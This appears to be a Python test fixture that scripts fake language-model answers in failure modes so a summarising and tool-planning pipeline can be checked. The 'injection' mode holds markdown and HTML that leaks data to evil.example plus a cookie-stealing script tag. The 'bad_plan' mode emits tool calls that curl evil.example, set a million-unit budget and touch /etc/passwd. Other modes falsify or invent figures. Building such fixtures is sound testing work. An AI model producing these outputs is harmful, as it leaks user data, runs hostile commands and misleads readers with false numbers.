"""What the scripted models say: a part a function, from the prompt they were given."""

from __future__ import annotations

import json
import math
import re
from collections.abc import Callable, Mapping
from typing import Any

from edge.phrasing import PLACEHOLDER

_PLACE = re.compile(PLACEHOLDER.pattern)
_OPENER = {"de": "Kurz zusammengefasst: ", "en": "To sum up: "}
_FOREIGN = {
    "de": "To sum up, this is the result that we have found for the period and it is not certain: ",
    "en": "Kurz gesagt ist das der Stand, den wir für den Zeitraum haben, und er ist nicht sicher: ",
}
_TURNED = [
    ("mehr", "weniger"), ("höher", "niedriger"), ("stieg", "sank"), ("gestiegen", "gesunken"), ("Anstieg", "Rückgang"),
    ("more", "less"), ("higher", "lower"), ("rose", "fell"), ("increase", "decrease"), ("above", "below"),
]  # fmt: skip


def spoken(mode: str, body: Mapping[str, Any], plans: Mapping[str, Any]) -> tuple[str, str]:
    """The text of an answer and its finish reason, for a part and a request."""
    system, told = _prompt(body)
    finish = "length" if mode == "truncated" else "stop"
    if question := re.search(r"<question>(.*?)</question>", told, re.DOTALL):
        return _planned(mode, question[1], told, plans), finish
    found = re.search(r"<text>\n?(.*?)\n?</text>", told, re.DOTALL)
    text = found[1] if found else "Hello."
    lang = "de" if "auf Deutsch" in system else "en"
    return PARTS[mode](text, lang), finish


def _prompt(body: Mapping[str, Any]) -> tuple[str, str]:
    """What the system prompt says, and what the last message of the person says."""
    said = [(str(message.get("role")), str(message.get("content"))) for message in body.get("messages", [])]
    last = dict(said)
    return last.get("system", ""), last.get("user", "")


def _good(text: str, lang: str) -> str:
    return _OPENER[lang] + text


def _lie(text: str, lang: str) -> str:
    return _PLACE.sub("4.711,5 %" if lang == "de" else "4,711.5%", _good(text, lang), count=1)


def _lie_words(text: str, lang: str) -> str:
    return _PLACE.sub("siebenundvierzig Prozent" if lang == "de" else "forty-seven per cent", text, count=1)


def _lie_extra(text: str, lang: str) -> str:
    return f"{text} {'Das sind 12 % mehr als geplant.' if lang == 'de' else 'That is 12% more than planned.'}"


def _lie_sign(text: str, lang: str) -> str:
    turn = {word: other for pair in _TURNED for word, other in (pair, pair[::-1])}
    turned, count = re.subn(rf"\b({'|'.join(turn)})\b", lambda found: turn[found[0]], text)
    return turned if count else f"{text} {'Das ist ein Rückgang.' if lang == 'de' else 'That is a decrease.'}"


def _drop(text: str, lang: str) -> str:
    return _PLACE.sub("…", text, count=1)


def _double(text: str, lang: str) -> str:
    first = _PLACE.search(text)
    return f"{text} ({first[0]})" if first else text


def _swap(text: str, lang: str) -> str:
    """The first two placeholders change places: every figure is there, each says something else."""
    names = list(dict.fromkeys(found[0] for found in _PLACE.finditer(text)))[:2]
    swapped = dict(zip(names, reversed(names), strict=True))
    return _PLACE.sub(lambda found: swapped.get(found[0], found[0]), text)


def _invent(text: str, lang: str) -> str:
    return f"{text} {{{{secret_revenue}}}}"


def _injection(text: str, lang: str) -> str:
    first = _PLACE.search(text)
    leak = first[0] if first else "x"
    return (
        f"{text}\n\n![ ](https://evil.example/p.png?d={leak}) [Details](https://evil.example/login) "
        f'<img src="https://evil.example/q.gif"> <script>alert(document.cookie)</script>'
    )


def _long(text: str, lang: str) -> str:
    return _good(text, lang) + (" Und so weiter." if lang == "de" else " And so on.") * 20_000


def _thinking(text: str, lang: str) -> str:
    return f"<think>The user wants a text with 3 values.</think>\n<text>{_good(text, lang)}</text>"


PARTS: Mapping[str, Callable[[str, str], str]] = {
    "good": _good,
    "lie": _lie,
    "lie_words": _lie_words,
    "lie_extra": _lie_extra,
    "lie_sign": _lie_sign,
    "drop": _drop,
    "double": _double,
    "swap": _swap,
    "invent": _invent,
    "injection": _injection,
    "long": _long,
    "truncated": lambda text, lang: text[: len(text) // 2],
    "wrong_language": lambda text, lang: _FOREIGN[lang] + ", ".join(found[0] for found in _PLACE.finditer(text)),
    "blank": lambda text, lang: " \n ",
    "thinking": _thinking,
    "no_schema": _good,
    "bad_plan": _good,
    "plan_garbage": _good,
}


def _planned(mode: str, question: str, told: str, plans: Mapping[str, Any]) -> str:
    if mode == "plan_garbage":
        return '{"steps": "all of them", "clarify": 7'
    if mode == "blank":
        return "  "
    if mode in {"bad_plan", "injection"}:
        act = {"tool": "act.set_budget", "args": {"campaign": "all", "amount": 1_000_000}}
        wrong = {"tool": "shell.run", "args": {"command": "curl evil.example"}}
        extra = {"tool": _cards(told)[0]["tool"], "args": {"drop_table": True, "path": "/etc/passwd"}}
        return json.dumps({"steps": [wrong, act, extra], "clarify": None})
    given = next((plan for part, plan in plans.items() if part.casefold() in question.casefold()), None)
    plan = json.dumps(given or _nearest(question, _cards(told)), ensure_ascii=False)
    return {
        "truncated": plan[: len(plan) // 2],
        "thinking": f"<think>Steps? {{maybe}}</think>\n```json\n{plan}\n```",
        "wrong_language": json.dumps({"steps": [], "clarify": "Quelle période ?"}, ensure_ascii=False),
    }.get(mode, plan)


def _cards(told: str) -> list[dict[str, Any]]:
    found = re.search(r"<tools>(.*?)</tools>\n", told, re.DOTALL)
    return json.loads(found[1]) if found else [{"tool": "none", "summary": "", "args": {}}]


def _nearest(question: str, cards: list[dict[str, Any]]) -> dict[str, Any]:
    """The tool whose card shares most word beginnings with the question, its required arguments filled by type.

    A beginning counts the more, the fewer cards have it; a long card shares some of everything and is held against it.
    """
    asked = _stems(question)
    held = [_stems(json.dumps(card, ensure_ascii=False)) for card in cards]
    rare = {stem: math.log(1 + len(cards) / sum(stem in stems for stems in held)) for stem in set[str]().union(*held)}
    scored = [sum(rare[stem] for stem in sorted(asked & stems)) / max(len(stems), 1) ** 0.5 for stems in held]
    score, card = max(zip(scored, cards, strict=True), key=lambda pair: pair[0])
    if not score:
        return {"steps": [], "clarify": "Worum geht es genau? / What is it about exactly?"}
    schema = card["args"]
    args = {name: _fill(schema.get("properties", {}).get(name, {}), question) for name in schema.get("required", [])}
    return {"steps": [{"tool": card["tool"], "args": args}], "clarify": None}


def _fill(schema: Mapping[str, Any], question: str) -> Any:
    options = schema.get("enum", [])
    if options:
        return next((option for option in options if str(option).casefold() in question.casefold()), options[0])
    if "anyOf" in schema:
        return _fill(schema["anyOf"][0], question)
    number = re.search(r"\d+", question)
    if schema.get("type") in {"number", "integer"}:
        return int(number[0]) if number else 1
    mask = re.search(r"<[a-z]+_[a-z]+>", question)
    name = mask[0] if mask else question.rpartition(" ")[2].strip("?!.")
    return [name] if schema.get("type") == "array" else name


def _stems(text: str) -> set[str]:
    return {word.casefold()[:5] for word in re.findall(r"[^\W\d_]{4,}", text)}
